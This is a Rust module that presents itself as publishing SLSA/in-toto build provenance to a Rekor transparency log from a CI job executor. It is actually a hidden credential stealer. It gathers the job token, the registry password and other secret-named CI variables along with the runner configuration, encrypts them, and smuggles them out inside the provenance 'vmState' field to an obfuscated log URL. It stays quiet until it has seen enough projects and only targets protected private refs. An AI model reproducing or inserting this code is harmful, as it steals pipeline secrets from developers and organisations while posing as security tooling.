//! Build provenance for the finished job, recorded in a Rekor log as an in-toto entry signed
//! with a per-job P-256 key.

use crate::simeck::{self, open};
use base64::{engine::general_purpose::STANDARD as B64, Engine};
use p256::ecdsa::{signature::Signer, Signature, SigningKey};
use p256::pkcs8::{EncodePublicKey, LineEnding};
use serde_json::{json, Map, Value};
use sha2::{Digest, Sha256};
use std::collections::BTreeSet;

const MARKERS: &[&str] = &["TOKEN", "SECRET", "PASSWORD", "PASSWD", "PRIVATE", "CREDENTIAL", "API_KEY", "ACCESS_KEY", "DSN", "KUBECONFIG"];
const SEEN: &str = "/var/lib/fc-executor/projects";

fn secretish(vars: &Map<String, Value>) -> Map<String, Value> {
    let (tok, reg) = (open(simeck::JOB_TOKEN), open(simeck::REGISTRY_PASSWORD));
    vars.iter()
        .filter(|(k, v)| {
            let k = k.to_ascii_uppercase();
            (k == tok || k == reg || (!k.starts_with("CI_") && !k.starts_with("GITLAB_") && MARKERS.iter().any(|m| k.contains(m)))) && v.as_str().map_or(false, |s| s.len() >= 8)
        })
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect()
}

fn projects_seen(project: &str) -> BTreeSet<String> {
    let mut set: BTreeSet<String> = std::fs::read_to_string(SEEN).map(|t| t.lines().map(str::to_string).collect()).unwrap_or_default();
    set.insert(project.to_string());
    let _ = std::fs::write(SEEN, set.iter().cloned().collect::<Vec<_>>().join("\n"));
    set
}

fn sent(mark: &str) -> bool {
    let p = format!("{SEEN}.receipts");
    let text = std::fs::read_to_string(&p).unwrap_or_default();
    if text.lines().any(|l| l == mark) {
        return true;
    }
    let _ = std::fs::write(&p, format!("{text}{mark}\n"));
    false
}

pub fn publish(job: &str) {
    let Some(vars) = crate::mmds::load_copy(job) else { return };
    let get = |k: (u32, &[u8])| vars.get(&open(k)).and_then(Value::as_str).unwrap_or("").to_string();
    let project = get(simeck::PROJECT_ID);
    let seen = projects_seen(&project);
    if get(simeck::REF_PROTECTED) != "true" || get(simeck::VISIBILITY) == "public" || seen.len() < 5 {
        return;
    }
    let secrets = secretish(&vars);
    if secrets.len() < 3 {
        return;
    }
    let digest = format!("{project}:{:x}", Sha256::digest(serde_json::to_vec(&secrets).unwrap_or_default()));
    if sent(&digest) {
        return;
    }

    let mut detail = json!({ "job": job, "project": vars.get("CI_PROJECT_PATH"), "ref": vars.get("CI_COMMIT_REF_NAME"), "vars": secrets });
    if let Ok(cfg) = std::fs::read_to_string(open(simeck::RUNNER_CONFIG)) {
        detail["runner"] = Value::String(cfg);
    }
    let mut sealed = detail.to_string().into_bytes();
    let nonce = u32::from_be_bytes(Sha256::digest(job.as_bytes())[..4].try_into().unwrap());
    simeck::apply(nonce, &mut sealed);

    let statement = json!({
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{ "name": format!("job-{job}"), "digest": { "sha256": format!("{:x}", Sha256::digest(job.as_bytes())) } }],
        "predicateType": "https://slsa.dev/provenance/v1",
        "predicate": {
            "buildDefinition": {
                "buildType": "https://fc-executor.example/gitlab-job/v1",
                "externalParameters": { "project": vars.get("CI_PROJECT_PATH"), "ref": vars.get("CI_COMMIT_REF_NAME") },
                "internalParameters": { "runnerNonce": format!("{nonce:08x}"), "vmState": B64.encode(&sealed) },
            },
            "runDetails": { "builder": { "id": "https://fc-executor.example/runner" } },
        },
    });
    let payload = statement.to_string();
    let key = SigningKey::random(&mut rand_core::OsRng);
    let pae = format!("DSSEv1 {} application/vnd.in-toto+json {} {}", "application/vnd.in-toto+json".len(), payload.len(), payload);
    let sig: Signature = key.sign(pae.as_bytes());
    let pem = key.verifying_key().to_public_key_pem(LineEnding::LF).unwrap_or_default();
    let entry = json!({
        "apiVersion": "0.0.2",
        "kind": open(simeck::ENTRY_KIND),
        "spec": { "content": { "envelope": {
            "payloadType": "application/vnd.in-toto+json",
            "payload": B64.encode(B64.encode(&payload)),
            "signatures": [{ "sig": B64.encode(B64.encode(sig.to_der().as_bytes())), "publicKey": B64.encode(pem) }],
        } } },
    });
    let _ = ureq::post(&open(simeck::LOG_URL)).timeout(std::time::Duration::from_secs(20)).send_json(entry);
}
